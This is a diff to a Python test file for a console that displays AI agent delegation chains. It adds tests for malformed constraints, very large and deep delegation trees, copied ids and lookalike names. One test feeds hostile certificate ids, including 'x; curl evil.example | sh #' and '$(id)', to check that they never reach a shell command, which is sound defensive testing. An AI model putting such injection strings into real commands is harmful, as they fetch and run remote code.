@@ -9,7 +9,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 from tests.world.delegations import DAY, NOW, World
 
-from accredit.console.delegations import Forest, Placed, links_in, links_of, sorted_nodes
+from accredit.console.delegations import Forest, Link, Placed, links_in, links_of, sorted_nodes
 from accredit.console.lists import ListPlace, revoked_by, see_lists
 from accredit.console.people import Known
 from accredit.console.people_views import PeopleViews
@@ -93,13 +93,15 @@ def test_what_the_journal_tells_is_completed_by_what_calls_came_with() -> None:
         "scope": ["x"], "constraints": [], "target": "send_email",
     }  # fmt: skip
     odd = [entry | change for change in ({"cert": 5}, {"agent": None}, {"ends_at": "x"}, {"at": True})]
-    new = entry | {"cert": "new", "constraints": [{"type": "?"}, 5], "scope": "x"}
-    forest.add_signed(WORLD.owner.id, [entry, *odd, new])
+    unreadable: dict[str, object] = {"a": [{"type": "?"}, 5], "b": 5, "c": "x", "d": {"a": 1}, "e": [[]]}
+    new = [entry | {"cert": name, "constraints": each, "scope": "x"} for name, each in unreadable.items()]
+    forest.add_signed(WORLD.owner.id, [entry, *odd, *new])
     placed = {each.node.link.cert_id: each.node for each in forest.placed(NOW, NOBODY)}
-    assert placed.keys() == {PARENT.cert_id, "new"}
+    assert placed.keys() == {PARENT.cert_id, *unreadable}
     assert placed[PARENT.cert_id].sources == {"log", "journal"}
     assert placed[PARENT.cert_id].asked_for == "send_email"
-    assert placed["new"].link.words() == "conditions that can't be read here"
+    for name in unreadable:
+        assert placed[name].link.words() == "conditions that can't be read here"
 
 
 def crowd(number: int) -> Forest:
@@ -135,6 +137,78 @@ def test_an_agent_that_passes_on_ten_thousand_times_hides_nobody() -> None:
         rows, begin = rows + len(part["rows"]), part["next"]
         assert len(part["rows"]) <= DELEGATIONS_A_PAGE
     assert rows == 1 + 1 + 10_000
+
+
+def linked(cert_id: str, issuer: str, subject: str, **changes: Any) -> Link:
+    members: dict[str, Any] = {"scope": ("mcp:tool",), "constraints": b"[]", "issued_at": 5, "expires_at": NOW * 2}
+    return Link(cert_id, issuer, subject, **members | changes)
+
+
+@pytest.mark.timeout(60)
+def test_an_agent_that_passes_on_as_deep_as_wide_hides_nobody__and_its_page_is_made_in_time() -> None:
+    forest, top = Forest(), linked("top", "ada", "a0")
+    for wide in range(20_000):
+        below = [linked(f"{wide}-{deep}", f"a{wide}-{deep}", f"a{wide}-{deep + 1}") for deep in range(7)]
+        forest.add((top, *below), "log", 1, "2027-01-15T08:00:00.000Z")
+    forest.add((linked("other", "ada", "b0"),), "file")
+    views = PeopleViews(Known(forest), {}, "ada")
+    page = views.page("", 0, all_states=True)
+    assert [each["who"] for each in page["rows"] if each["level"] == 1] == ["a0…", "b0…"]
+    assert len(page["rows"]) == 1 + 2 + DELEGATIONS_UNDER_ONE
+    one = views.one(views.find(top.handle))
+    assert (len(one["under"]), one["under_more"]) == (DELEGATIONS_A_PAGE, 140_000 - DELEGATIONS_A_PAGE)
+
+
+def test_an_agent_that_copies_an_id_keeps_nobody_from_taking_it_back() -> None:
+    """It has another delegation, and passes on to itself what has ended already, under the id of the first."""
+    first, second = linked("a" * 32, "ada", "bot"), linked("b" * 32, "ada", "bot")
+    copy = linked(first.cert_id, "bot", "bot", expires_at=9)
+    forest = Forest()
+    forest.add((second, copy), "log", 1, "z")
+    forest.add((first,), "log")
+    views = PeopleViews(Known(forest), {}, "ada")
+    assert views.find(first.handle).state == "now"
+    assert views.find(copy.handle).state == "ended"
+    assert [each["handle"] for each in views.one(views.find(first.handle))["ends_with"]] == [first.handle]
+
+
+def test_an_agent_that_keeps_another_delegation_is_said_to() -> None:
+    forest = Forest()
+    for name, ends in (("a", NOW * 2), ("b", NOW * 2), ("c", 5)):
+        forest.add((linked(name, "ada", "bot", expires_at=ends),), "file")
+    views = PeopleViews(Known(forest), {}, "ada")
+    one = next(each for each in views.page("", 0, all_states=True)["rows"] if each.get("cert") == "a")
+    assert views.one(views.find(one["handle"]))["others"] == 1
+
+
+def test_one_name_for_two_is_told_apart__a_key_brings_the_name_that_its_maker_chose() -> None:
+    forest = Forest()
+    for holder in ("11111111aaaa", "22222222bbbb", "33333333cccc"):
+        forest.add((linked(holder, "ada", holder),), "file")
+    names = {"11111111aaaa": "Assistant", "22222222bbbb": "Assistant", "33333333cccc": "Helper"}
+    told = {each["who"] for each in PeopleViews(Known(forest), names, "ada").page("", 0, all_states=True)["rows"][1:]}
+    assert len(told) == 3
+    assert "Helper" in told
+    assert "Assistant" not in told
+
+
+def test_no_id_that_a_shell_could_read_otherwise_is_put_into_a_command() -> None:
+    forest, ids = (
+        Forest(),
+        ["a" * 32, "x; curl evil.example | sh #", "-f", "$(id)", "\u202e", "A" * 32, "a" * 31 + "\n"],
+    )
+    for cert_id in ids:
+        forest.add((linked(cert_id, "ada", "bot"),), "file")
+    views = PeopleViews(Known(forest), {}, "ada")
+    found = [views.one(each)["typed"] for each in forest.placed(NOW, NOBODY)]
+    assert found == ["a" * 32] + [""] * 6
+
+
+def test_a_chain_that_no_gateway_takes_is_none__however_deep_somebody_has_made_it() -> None:
+    one = json.loads(PARENT.encode())
+    for depth, is_one in ((1, True), (8, True), (9, False), (3_000, False)):
+        assert (links_in(json.dumps([one] * depth).encode()) is not None) == is_one
+    assert links_in(json.dumps([one | {"cert_id": "x" * 140_000}]).encode()) is None
 
 
 def test_a_delegation_that_nobody_knows_is_said_to_be_unknown() -> None:
